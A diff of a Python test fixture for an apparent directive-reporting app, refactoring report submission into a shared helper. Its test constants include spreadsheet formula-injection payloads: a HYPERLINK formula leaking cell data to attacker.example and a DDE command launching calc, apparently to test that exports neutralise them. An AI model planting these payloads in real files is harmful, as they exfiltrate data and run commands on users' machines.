@@ -19,10 +19,11 @@ from sqlmodel import select
 
 from components import exports
 from models import AuditEvent, Directive, Task, session_scope
-from services import audit_log, briefing, directive_admin, organizations, overview, reporting
+from services import audit_log, briefing, directive_admin, organizations, overview
 from services.reporting import ReportInput
 from services.validation import today_in_vietnam
-from tests.services.reporting_db import BACKENDS, actor, assignment_of, demo_database
+from tests.services.reporting_db import BACKENDS, actor, demo_database
+from tests.services.test_reporting import submit
 
 LEAK = '=HYPERLINK("http://attacker.example/?leak="&C7&D7,"Xem")'
 CALC = "=cmd|' /C calc'!A0"
@@ -41,24 +42,20 @@ def db(request, tmp_path_factory):
     engine = None
     for engine in demo_database(request.param, tmp_path_factory):
         office = actor(engine, "vanphong")
-        assignment_id, version = assignment_of(engine, "STP")
+        submit(
+            engine,
+            ReportInput(
+                period="2022-Q4",
+                status="in_progress",
+                percent=70,
+                result=LEAK,
+                difficulties=CALC,
+                proposals=PLUS,
+                evidence_number=AT,
+                evidence_date=date(2022, 11, 20),
+            ),
+        )
         with session_scope(engine) as s:
-            reporting.submit_report(
-                s,
-                actor=actor(engine, "stp"),
-                assignment_id=assignment_id,
-                expected_version=version,
-                data=ReportInput(
-                    period="2022-Q4",
-                    status="in_progress",
-                    percent=70,
-                    result=LEAK,
-                    difficulties=CALC,
-                    proposals=PLUS,
-                    evidence_number=AT,
-                    evidence_date=date(2022, 11, 20),
-                ),
-            )
             organizations.rename_body(s, actor=office, code="STP", name=BODY)
             task_id = s.exec(select(Task.id).order_by(Task.id)).first()
             task = s.get(Task, task_id)
